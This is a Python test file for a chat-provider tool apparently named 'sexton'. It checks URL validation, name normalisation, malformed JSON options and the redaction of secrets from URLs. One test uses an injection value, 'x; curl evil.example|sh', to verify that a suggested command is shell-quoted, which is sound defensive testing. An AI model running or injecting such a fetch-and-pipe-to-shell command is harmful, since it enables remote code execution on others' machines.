"""What may be written into a provider and a model, as upstream has it."""

import json

import pytest

from sexton.chat import models, providers
from sexton.chat.validation import without_secrets
from sexton.database import scalar
from sexton.errors import Refused
from tests.support.tools import add_model, add_provider, do, table


@pytest.mark.parametrize(
    "address", ["not a url", "ftp://host/", "//host", "https://", "host:80/v1", "http://["]
)
def test_a_base_url_is_absolute(connection, address):
    with pytest.raises(Refused) as refusal:
        do(connection, providers.add_provider, "openai", api_key="k", base_url=address)
    assert refusal.value.upstream == "Invalid provider base URL."
    assert refusal.value.status == 400
    assert address not in str(refusal.value)


def test_blanks_around_are_taken_off_and_names_are_lower_case(connection):
    made = do(
        connection,
        providers.add_provider,
        " OpenAI ",
        api_key="  sk-pad ",
        display_name=" hi ",
        base_url=" https://host/v1 ",
    )
    assert (made["provider"], made["display_name"]) == ("openai", "hi")
    assert made["base_url"] == "https://host/v1"
    assert scalar(connection, "select api_key from chat_providers") == "sk-pad"
    model = do(
        connection, models.create_model, provider="OpenAI", model=" m ", context_limit=1
    )
    assert (model["provider"], model["model"]) == ("openai", "m")
    assert do(connection, providers.SwitchProvider, "OpenAI", enabled=False)


def test_bedrock_needs_no_key(connection):
    assert do(connection, providers.add_provider, "bedrock")["has_api_key"] is False


def test_a_context_limit_is_asked_for_in_upstreams_two_sentences(connection):
    add_provider(connection, "openai")
    id = add_model(connection, "openai")
    with pytest.raises(Refused) as refusal:
        do(connection, models.update_model, id, {"context_limit": 0})
    assert refusal.value.upstream == "Context limit must be greater than zero."
    values = {"provider": "openai", "model": "m", "context_limit": 0}
    with pytest.raises(Refused) as refusal:
        do(connection, models.create_model, **values)
    assert refusal.value.upstream == "Context limit is required."


OPTIONS = [
    '{"a": NaN}',
    '{"a": 1e400}',
    '{"a": "\\u0000"}',
    '{"a": "\\ud800"}',
    '{"\\u0000": 1}',
    "[1]",
    "[" * 100_000,
    '{"a":' * 5000 + "1" + "}" * 5000,
    '{"a":' * 600 + "1" + "}" * 600,
    '{"cost": {"input_price": "-1"}}',
    "{",
]


@pytest.mark.parametrize("text", OPTIONS, ids=range(len(OPTIONS)))
def test_options_that_jsonb_does_not_take_are_refused(connection, sexton, tmp_path, text):
    add_provider(connection, "openai")
    file = tmp_path / "options.json"
    file.write_text(text)
    result = sexton(
        *("model", "create", "openai", "m", "--context-limit", "1"),
        *("--options", str(file), "--format", "json"),
    )
    assert result.code in (2, 5), result.stderr
    assert json.loads(result.stdout)["error"]["message"]
    assert table(connection, "chat_model_configs") == []


def test_a_name_in_what_is_to_be_typed_is_quoted_for_the_shell(sexton):
    result = sexton("provider", "restore", "x; curl evil.example|sh")
    assert result.code == 5
    assert "sexton provider add 'x; curl evil.example|sh'" in result.stderr


def test_an_editors_mark_does_not_enter_a_key(connection, sexton, tmp_path):
    file = tmp_path / "key"
    file.write_bytes(b"\xef\xbb\xbfsk-made-up\r\n")
    assert sexton("provider", "add", "openai", "--key-file", str(file)).code == 0
    assert scalar(connection, "select api_key from chat_providers") == "sk-made-up"


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://usr:p@S@gw/v1", "https://***@gw/v1"),
        ("https://TOKEN@gw", "https://***@gw"),
        ("https://gw/v1?key=S&v=T", "https://gw/v1?key=***&v=***"),
        ("//usr:p@S@gw/v1", "***@gw/v1"),
        ("https://gw/a@b", "https://gw/a@b"),
        ("https://gw:8080/v1/azure:deploy", "https://gw:8080/v1/azure:deploy"),
        ("http://[::1]:80/v1", "http://[::1]:80/v1"),
        ("https://gw/v1#S", "https://gw/v1***"),
        ("https://gw/v1;key=S", "https://gw/v1***"),
        ("https://gw/v1&key=S", "https://gw/v1***"),
        ("https://gw/v1/key=S/x", "https://gw/v1/key***"),
        ("https://gw/v1%3Bkey%3DS", "https://gw/v1***"),
        ("https://gw/v1\\S", "https://gw/v1***"),
        ("sk-S", "***"),
        ("", ""),
    ],
)
def test_secrets_are_cut_from_a_url(url, shown):
    assert without_secrets(url) == shown
